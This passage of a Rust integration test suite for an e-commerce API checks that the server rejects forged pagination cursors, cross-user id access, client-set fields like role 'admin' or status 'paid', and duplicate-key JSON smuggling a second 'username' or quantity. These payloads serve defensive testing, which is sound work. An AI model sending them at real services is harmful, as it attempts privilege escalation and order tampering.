        *value = json!(format!("{}0", value.as_str().unwrap_or_default()));
    }
    vec![
        (
            "random base64".into(),
            format!(
                "{}.{}",
                B64.encode(ulid::Ulid::new().to_bytes()),
                B64.encode([7u8; 32])
            ),
        ),
        (
            "flipped payload byte".into(),
            format!("{}.{tag}", flip(payload, payload.len() / 2)),
        ),
        (
            "flipped tag byte".into(),
            format!("{payload}.{}", flip(tag, 3)),
        ),
        (
            "edited position, original tag".into(),
            format!("{}.{tag}", encode(&position)),
        ),
        ("no tag".into(), payload.to_owned()),
        ("truncated".into(), real[..real.len() - 4].to_owned()),
        ("extra part".into(), format!("{real}.x")),
        ("not base64".into(), "%%%.***".into()),
        ("a lone dot".into(), ".".into()),
        (
            "very long".into(),
            format!("{}.{tag}", "A".repeat(8 * 1024)),
        ),
        ("json".into(), "{\"pk\":\"USER#x\"}".into()),
    ]
}

async fn refused_cursor(list: &str, token: Option<&str>, cursor: &str, what: &str) {
    let sep = if list.contains('?') { '&' } else { '?' };
    let answer = get(&format!("{list}{sep}cursor={}", urlencode(cursor)), token).await;
    assert_eq!(
        (answer.status, answer.code()),
        (400, "invalid_cursor"),
        "{list}: {what}"
    );
}

#[tokio::test]
async fn forged_edited_and_foreign_cursors_are_400_on_every_list() {
    let admin = admin_token().await;
    let (alice, alice_user) = customer().await;
    let (bob, _) = customer().await;
    let product = new_product(&admin, 10, 100).await;
    let category = unique("cur-");
    for i in 0..3 {
        let body = json!({"name": format!("Cursor {i}"), "price_cents": 100, "currency": "USD", "stock": 1, "category": category});
        assert_eq!(
            call("POST", "/products", Some(&admin), Some(&body))
                .await
                .status,
            201
        );
    }
    // Alice: three orders, two of them paid, so two confirmations.
    let mut orders = Vec::new();
    for _ in 0..3 {
        let order = place_order(&alice, &product, 1).await;
        assert_eq!(order.status, 201, "{}", order.text);
        orders.push(order.body["id"].as_str().unwrap().to_owned());
    }
    for order in &orders[..2] {
        assert_eq!(pay(&alice, order, "pm_card_visa", None).await.status, 201);
    }
    wait_for_mails_about(alice_user["email"].as_str().unwrap(), CONFIRMED, 2).await;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while get("/notifications", Some(&alice)).await.body["items"]
        .as_array()
        .map_or(0, Vec::len)
        < 2
    {
        assert!(std::time::Instant::now() < deadline, "two notifications");
        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
    }

    let by_category = format!("/products?category={category}");
    let product_cursor = cursors(&by_category, None, 1).await.remove(0);
    let order_cursor = cursors("/orders", Some(&alice), 1).await.remove(0);
    let note_cursor = cursors("/notifications", Some(&alice), 1).await.remove(0);

    // The real ones work where they were handed out.
    for (list, token, cursor) in [
        (by_category.as_str(), None, &product_cursor),
        ("/orders", Some(alice.as_str()), &order_cursor),
        ("/notifications", Some(alice.as_str()), &note_cursor),
    ] {
        let sep = if list.contains('?') { '&' } else { '?' };
        let answer = get(&format!("{list}{sep}cursor={}", urlencode(cursor)), token).await;
        assert_eq!(answer.status, 200, "{list}: {}", answer.text);
    }

    let mut tried = 0;
    for (list, token, real) in [
        (by_category.as_str(), None, &product_cursor),
        ("/orders", Some(alice.as_str()), &order_cursor),
        ("/notifications", Some(alice.as_str()), &note_cursor),
    ] {
        for (what, forged) in forgeries(real) {
            refused_cursor(list, token, &forged, &what).await;
            tried += 1;
        }
    }
    // Foreign: another route, another filter, another caller.
    let other_category = format!("/products?category={}", unique("other-"));
    for (list, token, cursor, what) in [
        ("/products", None, &product_cursor, "no filter"),
        (
            other_category.as_str(),
            None,
            &product_cursor,
            "another category",
        ),
        (
            "/orders",
            Some(alice.as_str()),
            &product_cursor,
            "a products cursor",
        ),
        (
            "/orders",
            Some(alice.as_str()),
            &note_cursor,
            "a notifications cursor",
        ),
        (
            "/notifications",
            Some(alice.as_str()),
            &order_cursor,
            "an orders cursor",
        ),
        (
            by_category.as_str(),
            None,
            &order_cursor,
            "an orders cursor",
        ),
        (
            "/orders",
            Some(bob.as_str()),
            &order_cursor,
            "another caller's",
        ),
        (
            "/notifications",
            Some(bob.as_str()),
            &note_cursor,
            "another caller's",
        ),
        (
            "/orders",
            Some(admin.as_str()),
            &order_cursor,
            "a customer's, by an admin",
        ),
    ] {
        refused_cursor(list, token, cursor, what).await;
        tried += 1;
    }
    println!("{tried} forged or foreign cursors refused");
}

#[tokio::test]
async fn other_users_ids_are_404_on_every_per_user_route() {
    let admin = admin_token().await;
    let product = new_product(&admin, 10, 700).await;
    let (alice, alice_user) = customer().await;
    let (mallory, mallory_user) = customer().await;
    let order = place_order(&alice, &product, 2).await;
    assert_eq!(order.status, 201, "{}", order.text);
    let order_id = order.body["id"].as_str().unwrap().to_owned();

    // Each refusal is word for word the answer for an id nobody has.
    async fn same_as_missing(
        token: &str,
        method: &str,
        path: &str,
        missing: &str,
        body: Option<&Value>,
    ) {
        let theirs = call(method, path, Some(token), body).await;
        let none = call(method, missing, Some(token), body).await;
        assert_eq!(theirs.status, 404, "{method} {path}: {}", theirs.text);
        assert!(theirs.code().ends_with("_not_found"), "{}", theirs.text);
        assert_eq!(theirs.text, none.text, "{method} {path}");
    }
    same_as_missing(
        &mallory,
        "GET",
        &format!("/orders/{order_id}"),
        &format!("/orders/{NO_SUCH_ID}"),
        None,
    )
    .await;
    same_as_missing(
        &mallory,
        "POST",
        &format!("/orders/{order_id}/cancel"),
        &format!("/orders/{NO_SUCH_ID}/cancel"),
        None,
    )
    .await;
    let theirs = pay(&mallory, &order_id, "pm_card_visa", None).await;
    let none = pay(&mallory, NO_SUCH_ID, "pm_card_visa", None).await;
    assert_eq!((theirs.status, theirs.code()), (404, "order_not_found"));
    assert_eq!(theirs.text, none.text);
    // Mallory's attempts changed nothing.
    let still = get(&format!("/orders/{order_id}"), Some(&alice)).await;
    assert_eq!(still.body["status"], "pending_payment");
    assert_eq!(still.body, order.body);

    let paid = pay(&alice, &order_id, "pm_card_visa", None).await;
    assert_eq!(paid.status, 201, "{}", paid.text);
    let payment_id = paid.body["id"].as_str().unwrap().to_owned();
    same_as_missing(
        &mallory,
        "GET",
        &format!("/payments/{payment_id}"),
        &format!("/payments/{NO_SUCH_ID}"),
        None,
    )
    .await;
    wait_for_mails_about(alice_user["email"].as_str().unwrap(), CONFIRMED, 1).await;
    let notes = get("/notifications", Some(&alice)).await;
    let note_id = notes.body["items"][0]["id"]
        .as_str()
        .expect("a notification")
        .to_owned();
    same_as_missing(
        &mallory,
        "GET",
        &format!("/notifications/{note_id}"),
        &format!("/notifications/{NO_SUCH_ID}"),
        None,
    )
    .await;

    // Alice's Idempotency-Key replays nothing to Mallory: keys are per caller.
    let alice_key = unique("alice-");
    let order2 = place_order(&alice, &product, 1).await;
    let order2_id = order2.body["id"].as_str().unwrap().to_owned();
    let first = pay(&alice, &order2_id, "pm_card_visa", Some(&alice_key)).await;
    assert_eq!(first.status, 201, "{}", first.text);
    let replay = pay(&mallory, &order2_id, "pm_card_visa", Some(&alice_key)).await;
    assert_eq!((replay.status, replay.code()), (404, "order_not_found"));
    assert!(replay.header("idempotent-replayed").is_none());

    // Mallory's lists hold nothing of Alice's: no order, and no mail but
    // the verification link of Mallory's own registration.
    assert_eq!(
        get("/orders", Some(&mallory)).await.body["items"],
        json!([])
    );
    let notes = get("/notifications", Some(&mallory)).await;
    let notes = notes.body["items"].as_array().cloned().unwrap_or_default();
    assert!(
        notes
            .iter()
            .all(|n| n["user_id"] == mallory_user["id"] && n["subject"] == VERIFY_SUBJECT),
        "{notes:?}"
    );
    // The contract lets admins read any order and notification, but a payment
    // only by its owner.
    assert_eq!(
        get(&format!("/orders/{order_id}"), Some(&admin))
            .await
            .status,
        200
    );
    assert_eq!(
        get(&format!("/notifications/{note_id}"), Some(&admin))
            .await
            .status,
        200
    );
    let answer = get(&format!("/payments/{payment_id}"), Some(&admin)).await;
    assert_eq!((answer.status, answer.code()), (404, "payment_not_found"));
    // And Alice still reads all of hers.
    for path in [
        format!("/orders/{order_id}"),
        format!("/payments/{payment_id}"),
        format!("/notifications/{note_id}"),
    ] {
        assert_eq!(get(&path, Some(&alice)).await.status, 200, "{path}");
    }
}

#[tokio::test]
async fn fields_the_server_owns_cannot_be_sent() {
    let admin = admin_token().await;
    let (token, user) = customer().await;
    let product = new_product(&admin, 5, 100).await;
    let order = place_order(&token, &product, 1).await;
    let order_id = order.body["id"].as_str().unwrap();
    let someone = NO_SUCH_ID;
    for (method, path, who, body, fields) in [
        (
            "POST",
            "/users/register".to_owned(),
            None,
            json!({"username": unique("m"), "email": format!("{}@example.com", unique("m")), "password": PASSWORD, "role": "admin", "id": someone}),
            vec!["id", "role"],
        ),
        (
            "POST",
            "/orders".into(),
            Some(&token),
            {
                let mut body = order_request(
                    json!([{"product_id": product, "quantity": 1, "unit_price_cents": 1}]),
                );
                body["user_id"] = json!(someone);
                body["status"] = json!("paid");
                body["total_cents"] = json!(1);
                body
            },
            vec![
                "status",
                "total_cents",
                "user_id",
                "items[0].unit_price_cents",
            ],
        ),
        (
            "POST",
            "/payments".into(),
            Some(&token),
            json!({"order_id": order_id, "payment_method": "pm_card_visa", "amount_cents": 1, "status": "succeeded"}),
            vec!["amount_cents", "status"],
        ),
        (
            "PATCH",
            format!("/products/{product}"),
            Some(&admin),
            json!({"id": someone, "version": 99, "created_at": "2000-01-01T00:00:00Z", "archived_at": null}),
            vec!["archived_at", "created_at", "id", "version"],
        ),
        (
            "POST",
            "/notifications".into(),
            Some(&admin),
            json!({"channel": "email", "recipient": "a@example.com", "subject": "s", "message": "m", "user_id": user["id"], "status": "sent"}),
            vec!["status", "user_id"],
        ),
    ] {
        let answer = send(
            client()
                .request(method.parse().unwrap(), format!("{}{path}", api()))
                .bearer_auth(who.map_or("", String::as_str))
                .header("idempotency-key", unique("k-"))
                .json(&body),
        )
        .await;
        assert_eq!(
            (answer.status, answer.code()),
            (422, "validation_failed"),
            "{method} {path}"
        );
        let named: BTreeSet<&str> = answer.body["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["field"].as_str().unwrap())
            .collect();
        assert_eq!(named, fields.into_iter().collect(), "{method} {path}");
    }
    // Nothing moved.
    assert_eq!(stock_of(&product).await, 4);
    let still = get(&format!("/orders/{order_id}"), Some(&token)).await;
    assert_eq!(still.body["status"], "pending_payment");
}

#[tokio::test]
async fn a_member_named_twice_is_malformed_json() {
    // Parsers disagree on which of two equal names wins; none is picked here.
    let admin = admin_token().await;
    let product = new_product(&admin, 5, 100).await;
    for (path, token, body) in [
        (
            "/users/register".to_owned(),
            None,
            format!(
                r#"{{"username": "{}", "email": "{}@example.com", "password": "{PASSWORD}", "username": "admin"}}"#,
                unique("d"),
                unique("d")
            ),
        ),
        (
            "/users/login".into(),
            None,
            r#"{"username": "admin", "password": "x", "password": "y"}"#.into(),
        ),
        (
            "/orders".into(),
            Some(&admin),
            format!(
                r#"{{"items": [{{"product_id": "{product}", "quantity": 1, "quantity": 100}}]}}"#
            ),
        ),
    ] {
        let mut request = client()
            .post(format!("{}{path}", api()))
            .header("content-type", "application/json")
            .body(body);
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        let answer = send(request).await;
        assert_eq!(
            (answer.status, answer.code()),
            (400, "malformed_json"),
            "{path}"
        );
    }
    let answer = send(
        client()
            .patch(format!("{}/products/{product}", api()))
            .bearer_auth(&admin)
            .header("content-type", "application/json")
            .body(r#"{"stock_delta": -5, "stock_delta": 1}"#),
    )
    .await;
    assert_eq!((answer.status, answer.code()), (400, "malformed_json"));
    assert_eq!(stock_of(&product).await, 5);
}
